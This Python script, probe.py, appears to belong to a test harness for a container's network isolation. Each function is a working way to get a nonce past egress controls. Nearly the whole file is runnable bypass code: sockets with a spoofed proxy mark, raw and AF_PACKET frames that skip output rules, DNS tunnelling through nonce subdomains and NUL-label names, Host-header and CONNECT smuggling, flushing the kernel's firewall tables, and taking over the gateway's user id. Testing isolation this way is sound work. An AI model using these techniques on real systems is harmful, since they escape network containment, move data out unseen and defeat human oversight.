"""One attempt to get a nonce out, by the way that the first argument names.

usage: probe.py WAY ARGUMENT…    (the ways and their arguments are the functions below and in the odd_ modules)

A refusal by the system is a normal end: it is printed, and the exit code is 0. Whether the nonce got out is judged at
the receiver, never here. A mistake in the probe itself ends with another code, and then the attempt proves nothing.
"""

import ctypes
import os
import socket
import struct
import sys

import netlink
import wire
from odd_dns import dns_bytes, dns_case, dns_odd, dns_pipelined, dns_ports, dns_types  # noqa: F401
from odd_http import head, redirected, relayed  # noqa: F401
from odd_retry import second  # noqa: F401
from odd_sockets import (  # noqa: F401
    datagram,
    fragments,
    joined,
    offload,
    options,
    owned,
    packet_info,
    raw_header,
    routes,
    segment_route,
    solicited,
    source_ports,
    source_route,
    sources,
    stun,
)
from odd_tls import hello  # noqa: F401
from reach import SECONDS, attempt, connect, send_and_read

SO_MARK, IP_FREEBIND, IP_TRANSPARENT, IPPROTO_MPTCP = 36, 15, 19, 262


def tcp(host, port, nonce):
    """Plain bytes over TCP."""
    send_and_read(connect(host, port), nonce.encode() + b"\n")


def take(host, port):
    """What a listener gives."""
    with connect(host, port) as connection:
        print(connection.recv(300))


def tell(host, port, word):
    """A datagram that nobody has to answer."""
    datagram(host, port, word.encode())


def tcp_early(host, port, nonce):
    """Bytes in the SYN itself (TCP Fast Open, RFC 7413)."""
    family, kind, protocol, _, target = socket.getaddrinfo(host, int(port), type=socket.SOCK_STREAM)[0]
    with socket.socket(family, kind, protocol) as connection:
        # A time-out of Python's makes the socket non-blocking, and then the kernel forgets the data.
        for option in (socket.SO_SNDTIMEO, socket.SO_RCVTIMEO):
            connection.setsockopt(socket.SOL_SOCKET, option, struct.pack("@ll", SECONDS, 0))
        connection.sendto(nonce.encode(), socket.MSG_FASTOPEN, target)
        print(connection.recv(300))


def mptcp(host, port, nonce):
    """Multipath TCP, a protocol number of its own (RFC 8684)."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP) as connection:
        connection.settimeout(SECONDS)
        connection.connect((host, int(port)))
        connection.sendall(nonce.encode())
        print(connection.recv(300))


def mapped(host, port, nonce):
    """An IPv4 address written as an IPv6 one."""
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as connection:
        connection.settimeout(SECONDS)
        connection.connect((f"::ffff:{host}", int(port)))
        connection.sendall(nonce.encode())
        print(connection.recv(300))


def marked(host, port, nonce):
    """Sockets that carry a mark, as proxies give to their own so that their rules let them pass."""
    for mark in (1, 2, 255, 1337, 15001, 64000):
        try:
            send_and_read(
                connect(host, port, lambda c, m=mark: c.setsockopt(socket.SOL_SOCKET, SO_MARK, m)), nonce.encode()
            )
        except OSError as error:
            print(mark, error)


def transparent(host, port, nonce):
    """Sockets with an address that isn't theirs, and with the device chosen by hand."""
    options = [
        (socket.SOL_IP, IP_TRANSPARENT, 1),
        (socket.SOL_IP, IP_FREEBIND, 1),
        (socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0"),
    ]
    for option in options:
        try:
            send_and_read(connect(host, port, lambda c, o=option: c.setsockopt(*o)), nonce.encode())
        except OSError as error:
            print(option, error)


def udp(host, port, nonce, source_port="0"):
    """A datagram, from a port of choice."""
    family, kind, protocol, _, target = socket.getaddrinfo(host, int(port), type=socket.SOCK_DGRAM)[0]
    with socket.socket(family, kind, protocol) as sender:
        sender.settimeout(SECONDS)
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sender.bind(("", int(source_port)))
        sender.sendto(nonce.encode(), target)
        print(sender.recv(300))


def quic(host, port, nonce):
    """A first packet of QUIC, which carries what it likes as its token (RFC 9000 section 17.2.2)."""
    token = nonce.encode()
    head = b"\xc0\0\0\0\1\x08" + bytes(8) + b"\0" + bytes([len(token)]) + token
    family, kind, protocol, _, target = socket.getaddrinfo(host, int(port), type=socket.SOCK_DGRAM)[0]
    with socket.socket(family, kind, protocol) as sender:
        sender.settimeout(SECONDS)
        sender.sendto(head.ljust(1200, b"\0"), target)
        print(sender.recv(300))


def ping(host, nonce):
    """The datagram form of ICMP, which needs no capability where ping_group_range allows it (icmp(7))."""
    if ":" in host:
        family, protocol, head = socket.AF_INET6, socket.IPPROTO_ICMPV6, 128
    else:
        family, protocol, head = socket.AF_INET, socket.IPPROTO_ICMP, 8
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as sender:
        sender.sendto(struct.pack("!BBHHH", head, 0, 0, 1, 1) + nonce.encode(), (host, 0))


def raw(host, protocol, nonce):
    """A packet of any IP protocol (raw(7))."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, int(protocol)) as sender:
        data = nonce.encode()
        sender.sendto(wire.echo_request(data) if int(protocol) == socket.IPPROTO_ICMP else data, (host, 0))


def udplite(host, port, nonce):
    """UDP-Lite, a protocol number of its own (RFC 3828)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136) as sender:
        sender.sendto(nonce.encode(), (host, int(port)))


def sctp(host, port, nonce):
    """An SCTP association, whose first packet would show the attempt."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as sender:
        sender.settimeout(SECONDS)
        sender.connect((host, int(port)))


def packet(host, nonce):
    """A frame put straight on the wire, past every output rule (packet(7))."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
        sender.bind(("eth0", 0x0800))
        sender.send(wire.broadcast_datagram(sender.getsockname()[4], host, nonce.encode()))


def resolve(name):
    """The system's resolver."""
    print(socket.getaddrinfo(name, 443))


def resolve_many(name, nonce, count):
    """Many names below one, each carrying a piece."""
    for number in range(int(count)):
        try:
            socket.getaddrinfo(f"{nonce}-{number}.{name}", 443)
        except OSError as error:
            print(error)


def dns(server, port, name, kind="A", transport="udp"):
    """A question to a server of choice."""
    print(wire.ask(server, int(port), name, kind, transport, SECONDS))


def dns_nul(server, nonce):
    """Names with a NUL or a dot inside a label, which end like an allowed one for whoever reads to the end."""
    for name in (f"{nonce}\0.allowed.test", f"{nonce}.evil.test\0.allowed.test"):
        print(wire.ask(server, 53, name, "A", "udp", SECONDS))


def dns_engine(name):
    """A question to the container engine's resolver, also at the high ports it really listens on."""
    ports = {53}
    for table in ("/proc/net/udp", "/proc/net/tcp"):
        with open(table, encoding="ascii") as lines:
            for line in lines:
                local = line.split()[1]
                if local.startswith("0B00007F:"):
                    ports.add(int(local.partition(":")[2], 16))
    for port in sorted(ports):
        for transport in ("udp", "tcp"):
            try:
                print(port, wire.ask("127.0.0.11", port, f"{transport}{port}.{name}", "A", transport, SECONDS))
            except OSError as error:
                print(port, transport, error)


def dns_reused_port(server, name, allowed):
    """Questions from every port the gateway's own resolver may just have used: its flows live on in the kernel."""
    for number in range(20):
        try:
            send_and_read(connect(allowed, 80), wire.request("GET", f"/{number}", allowed))
        except OSError as error:
            print(error)
    message = wire.question(name, "A")
    sent = 0
    for port in range(32768, 61000):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            try:
                sender.bind(("", port))
                sender.connect((server, 53))
                sender.send(message)
                sent += 1
            except OSError as error:
                last = error
    print(sent, last)


def from_port(source, host, port, nonce):
    """From a port that a flow from outside has, or has had."""
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        with socket.socket(socket.AF_INET, kind) as sender:
            sender.settimeout(SECONDS)
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            try:
                sender.bind(("", int(source)))
                sender.connect((host, int(port)))
                sender.sendall(nonce.encode() + b"\n")
                print(kind, "sent")
            except OSError as error:
                print(kind, error)


def by_device(host, port, name, kind):
    """Past the loopback device, to an address that is local only there: bytes, or a question."""
    for transport in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        with socket.socket(socket.AF_INET, transport) as sender:
            sender.settimeout(SECONDS)
            try:
                sender.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
                sender.connect((socket.gethostbyname(host), int(port)))
                message = wire.question(name, "A") if kind == "question" else name.encode()
                framed = kind == "question" and transport == socket.SOCK_STREAM
                sender.send((struct.pack("!H", len(message)) if framed else b"") + message)
                print(sender.recv(300))
            except OSError as error:
                print(transport, error)


def dns_orphan(server, name):
    """Questions that wait in the kernel when their socket closes."""
    message = wire.question(name, "A")
    leave_in_queue(server, 53, struct.pack("!H", len(message)) + message)


def orphan(host, port, nonce):
    """Bytes that wait in the kernel when their socket closes."""
    leave_in_queue(host, int(port), nonce.encode())


def leave_in_queue(host, port, message):
    """Closes sockets with a full queue and another device: the packets that still come have no owner."""
    for _ in range(20):
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sender:
            sender.settimeout(SECONDS)
            sender.connect((host, port))
            sender.setblocking(False)
            try:
                while True:
                    sender.send(message * 1000)
            except BlockingIOError:
                pass
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
            # An answer that nobody has read would make the kernel throw away what waits.
            try:
                while sender.recv(1 << 20):
                    pass
            except BlockingIOError:
                pass


def tls(host, port, server_name, request_host, nonce):
    """A request in TLS to one place, naming others: "-" as server name sends none."""
    connection = wire.handshake(connect(host, port), None if server_name == "-" else server_name)
    send_and_read(connection, wire.request("GET", f"/{nonce}", request_host))


def http(host, port, request_host, nonce, method="GET"):
    """A request without TLS, with a Host of choice ("-" for none, %00 for NUL)."""
    send_and_read(connect(host, port), wire.request(method, f"/{nonce}", request_host.replace("%00", "\0")))


def http_pair(host, first, second, nonce):
    """Two Host fields in one request, and the second place also as absolute form."""
    for lines in (
        f"GET /{nonce} HTTP/1.1\r\nHost: {first}\r\nHost: {second}\r\n\r\n",
        f"GET http://{second}/{nonce} HTTP/1.1\r\nHost: {first}\r\n\r\n",
        f"GET /{nonce} HTTP/1.1\r\nHost: {first}\r\n Host: {second}\r\n\r\n",
        f"GET /{nonce} HTTP/1.1\nHost: {second}\n\n",
    ):
        try:
            send_and_read(connect(host, 80), lines.encode())
        except OSError as error:
            print(error)


def inner_connect(host, port, target, nonce):
    """Asks what listens there to connect on, as an open proxy would, then speaks."""
    with connect(host, port) as connection:
        connection.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        print(connection.recv(300))
        connection.sendall(nonce.encode())
        print(connection.recv(300))


def local_ports(target, nonce):
    """Speaks to every port that listens in this network namespace, on every address that may be it."""
    ports = {port for table in ("/proc/net/tcp", "/proc/net/tcp6") for port in wire.local_ports(table, "0A")}
    for port in sorted(ports | {53, 15001, 15053}):
        for host in wire.local_addresses():
            attempt(f"{host} {port}", inner_connect, host, port, target, nonce)


def local_datagrams(name, nonce):
    """Asks every port that takes datagrams in this network namespace, on every address that may be it."""
    ports = {port for table in ("/proc/net/udp", "/proc/net/udp6") for port in wire.local_ports(table, "07")}
    for port in sorted(ports | {53, 15001, 15053}):
        for host in wire.local_addresses():
            attempt(f"{host} {port}", lambda h=host, p=port: print(wire.ask(h, p, f"{nonce}.{name}", "A", "udp", 0.5)))


def drop_rules(host, port, nonce):
    """Empties the kernel's rules, then connects (what a root process with NET_ADMIN would do)."""
    try:
        netlink.delete_all_tables()
    except OSError as error:
        print("rules:", error)
    tcp(host, port, nonce)


def become_gateway(host, port, nonce):
    """Takes over the gateway's user id, where that is possible, then connects; also only for files (setfsuid(2))."""
    for become in (os.setuid, ctypes.CDLL(None).setfsuid):
        for user in (64000, 64001, 0):
            child = os.fork()
            if child == 0:
                attempt(user, become, user)
                attempt(user, tcp, host, port, nonce)
                sys.stdout.flush()
                os._exit(0)
            os.waitpid(child, 0)


def main(words):
    """Goes the way that the first word names."""
    way, *arguments = words
    try:
        globals()[way.replace("-", "_")](*arguments)
    except OSError as error:
        print("refused:", error)


if __name__ == "__main__":
    main(sys.argv[1:])
